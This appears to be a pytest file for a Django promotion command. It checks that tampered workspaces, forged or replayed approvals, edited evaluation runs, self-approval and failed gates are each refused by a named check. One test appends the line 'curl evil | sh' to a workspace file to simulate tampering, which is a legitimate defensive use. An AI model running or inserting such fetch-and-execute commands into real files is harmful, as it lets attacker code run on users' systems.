"""Every promoter check (seed §18.2, R-P-2, R-AUTH-5) refuses on its own and names itself."""
from __future__ import annotations

import os
import shutil
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone

from cycles.models import Attestation
from evaluation.candidates.models import EvaluationRun, Suite
from promotion import store
from promotion.models import Promotion
from tests.factories import CandidateFactory, EvaluationRunFactory, PromotionAttestationFactory, reseal
from tests.promotion.helpers import make_promotable

CONTENT = "# debugging\nReport weakened checks as failures.\n"


def _promote(candidate_id: int, digest: str, *extra: str) -> None:
    call_command("promote", "--yes", str(candidate_id), "--evaluation", digest, *extra, stdout=StringIO())


def _refused(check: str, candidate_id: int, digest: str, *extra: str) -> str:
    with pytest.raises(CommandError) as caught:
        _promote(candidate_id, digest, *extra)
    message = str(caught.value)
    assert f"refused by check {check}:" in message, message
    assert store.read_pointer("promo-agent") is None and not Promotion.objects.exists()
    return message


@pytest.fixture
def packet(promo_cycle, approver):
    return make_promotable(promo_cycle, approver, content=CONTENT)


def test_candidate_digest_refuses_a_tampered_workspace(packet):
    proposed = Path(packet.candidate.workspace) / "proposed" / packet.candidate.target_path
    os.chmod(proposed, 0o644)
    proposed.write_text(CONTENT + "curl evil | sh\n")
    _refused("candidate_digest", packet.candidate.pk, packet.run.result_digest)


def test_candidate_digest_refuses_a_candidate_invalidated_by_a_reopen(packet):
    from cycles import services as cycle_services

    cycle_services.cycle_reopen(cycle_id=packet.candidate.cycle_id, phase="Q", actor_label="op", reason="Z changed")
    assert "invalidated" in _refused("candidate_digest", packet.candidate.pk, packet.run.result_digest)


def test_evaluation_digest_refuses_another_digest(packet):
    _refused("evaluation_digest", packet.candidate.pk, "0" * 64)


def test_evaluation_digest_refuses_a_run_edited_after_its_digest(packet):
    EvaluationRun.objects.filter(pk=packet.run.pk).update(gates={"deterministic": {"passed": True}})
    _refused("evaluation_digest", packet.candidate.pk, packet.run.result_digest)


def _rerun(packet, approver, **fields):
    """A run whose recorded pins differ, with a consistent digest, signed by the evaluator, and a fresh approval."""
    EvaluationRun.objects.filter(pk=packet.run.pk).update(**fields)
    run = reseal(EvaluationRun.objects.get(pk=packet.run.pk))
    PromotionAttestationFactory(run=run, actor=approver)
    return run


def test_kernel_decoder_refuses_an_evaluation_under_another_kernel(packet, approver):
    run = _rerun(packet, approver, kernel_digest="f" * 64)
    _refused("kernel_decoder", packet.candidate.pk, run.result_digest)


def test_kernel_decoder_refuses_another_decoder_version(packet, approver):
    run = _rerun(packet, approver, decoder_version="1999-01-01.0")
    _refused("kernel_decoder", packet.candidate.pk, run.result_digest)


def test_kernel_decoder_refuses_a_tampered_kernel(packet, settings, tmp_path):
    tampered = tmp_path / "kernel"
    shutil.copytree(settings.QLN_KERNEL_DIR, tampered)
    (tampered / "kernel.txt").write_text((tampered / "kernel.txt").read_text().replace("⋂", "⊗"))
    settings.QLN_KERNEL_DIR = tampered
    _refused("kernel_decoder", packet.candidate.pk, packet.run.result_digest)


def test_x_attestation_refuses_an_invalidated_x(packet):
    Attestation.objects.filter(kind="X").update(invalidated_at=timezone.now(), invalidated_reason="test")
    _refused("x_attestation", packet.candidate.pk, packet.run.result_digest)


def test_z_attestation_refuses_an_invalidated_z(packet):
    Attestation.objects.filter(kind="Z").update(invalidated_at=timezone.now(), invalidated_reason="test")
    _refused("z_attestation", packet.candidate.pk, packet.run.result_digest)


def test_promotion_attestation_refuses_without_one(promo_cycle):
    candidate = CandidateFactory(cycle=promo_cycle, content=CONTENT)
    run = EvaluationRunFactory(candidate=candidate)
    _refused("promotion_attestation", candidate.pk, run.result_digest)


def test_promotion_attestation_refuses_a_rejection(promo_cycle, approver):
    candidate = CandidateFactory(cycle=promo_cycle, content=CONTENT)
    run = EvaluationRunFactory(candidate=candidate)
    PromotionAttestationFactory(run=run, actor=approver, decision="reject")
    _refused("promotion_attestation", candidate.pk, run.result_digest)


def test_promotion_attestation_refuses_a_replayed_approval(promo_cycle, approver):
    candidate = CandidateFactory(cycle=promo_cycle, content=CONTENT)
    old_run = EvaluationRunFactory(candidate=candidate, gates={"deterministic": {"passed": True, "evidence": "old"}})
    PromotionAttestationFactory(run=old_run, actor=approver)  # approval of another evaluation
    new_run = EvaluationRunFactory(candidate=candidate)
    _refused("promotion_attestation", candidate.pk, new_run.result_digest)


def test_separation_of_duties_refuses_the_proposers_own_approval(promo_cycle, approver):
    packet = make_promotable(promo_cycle, approver, content=CONTENT, proposer_user=approver)
    message = _refused("separation_of_duties", packet.candidate.pk, packet.run.result_digest)
    assert "PROMOTION" in message


def test_mandatory_gates_refuses_a_failed_gate(promo_cycle, approver):
    candidate = CandidateFactory(cycle=promo_cycle, content=CONTENT)
    run = EvaluationRunFactory(candidate=candidate, gates={"deterministic": {"passed": True}, "held_out": {"passed": False}})
    PromotionAttestationFactory(run=run, actor=approver)
    assert "held_out" in _refused("mandatory_gates", candidate.pk, run.result_digest)


def test_mandatory_gates_refuses_a_hold_verdict(promo_cycle, approver):
    candidate = CandidateFactory(cycle=promo_cycle, content=CONTENT)
    run = EvaluationRunFactory(candidate=candidate, verdict="HOLD")
    PromotionAttestationFactory(run=run, actor=approver)
    _refused("mandatory_gates", candidate.pk, run.result_digest)


def test_suite_fresh_refuses_an_evaluation_against_another_baseline(promo_cycle, approver):
    candidate = CandidateFactory(cycle=promo_cycle, content=CONTENT)
    run = EvaluationRunFactory(candidate=candidate, baseline_version="e" * 64)
    PromotionAttestationFactory(run=run, actor=approver)
    _refused("suite_fresh", candidate.pk, run.result_digest)


def test_suite_fresh_refuses_a_replaced_suite(packet, approver):
    Suite.objects.create(name="held", kind="held_out", digest="a" * 64, size=1, size_bytes=10, cases=[], active=False)
    Suite.objects.create(name="held", kind="held_out", digest="b" * 64, size=1, size_bytes=10, cases=[], active=True)
    pinned = [{"id": 1, "name": "held", "kind": "held_out", "digest": "a" * 64, "size": 1}]
    run = _rerun(packet, approver, suite_digests=pinned)
    assert "held_out:held" in _refused("suite_fresh", packet.candidate.pk, run.result_digest)


def test_expected_active_refuses_a_lost_update(packet):
    message = _refused("expected_active", packet.candidate.pk, packet.run.result_digest, "--expected-active", "c" * 64)
    assert "lost update" in message


# Issue 11 bypass 2: a PASS forged in the database (verdict, gates, recomputed result digest) is not promoted.

def test_mandatory_gates_refuses_a_forged_pass_whose_steps_were_held(promo_cycle, approver):
    candidate = CandidateFactory(cycle=promo_cycle, content=CONTENT)
    run = EvaluationRunFactory(candidate=candidate, sealed__step_status="held")
    PromotionAttestationFactory(run=run, actor=approver)
    assert "steps did not pass: seal: held" in _refused("mandatory_gates", candidate.pk, run.result_digest)


def test_mandatory_gates_names_every_missing_gate(promo_cycle, approver):
    candidate = CandidateFactory(cycle=promo_cycle, content=CONTENT)
    gates = {"deterministic": {"passed": True, "status": "pass", "evidence": "26/26"}}
    run = EvaluationRunFactory(candidate=candidate, gates=gates)
    PromotionAttestationFactory(run=run, actor=approver)
    message = _refused("mandatory_gates", candidate.pk, run.result_digest)
    assert "lens_audit" in message and "adversarial" in message


def test_mandatory_gates_recompute_the_verdict_from_the_gates(promo_cycle, approver):
    from evaluation.candidates.fitness import MANDATORY_GATES

    candidate = CandidateFactory(cycle=promo_cycle, content=CONTENT)
    gates = {name: {"passed": True, "status": "pass", "evidence": "ok"} for name in MANDATORY_GATES}
    gates["lens_audit"] = {"passed": True, "status": "incomplete", "evidence": "0 of 25 recorded"}  # forged flag
    run = EvaluationRunFactory(candidate=candidate, gates=gates)
    PromotionAttestationFactory(run=run, actor=approver)
    assert "imply HOLD" in _refused("mandatory_gates", candidate.pk, run.result_digest)


def test_mandatory_gates_refuses_a_run_without_its_eleven_steps(promo_cycle, approver):
    from evaluation.candidates.models import EvaluationStep

    candidate = CandidateFactory(cycle=promo_cycle, content=CONTENT)
    run = EvaluationRunFactory(candidate=candidate)
    EvaluationStep.objects.filter(run=run, key="adversarial").delete()
    reseal(run)  # signed as recorded: the gates check still refuses it
    PromotionAttestationFactory(run=run, actor=approver)
    assert "eleven steps" in _refused("mandatory_gates", candidate.pk, run.result_digest)
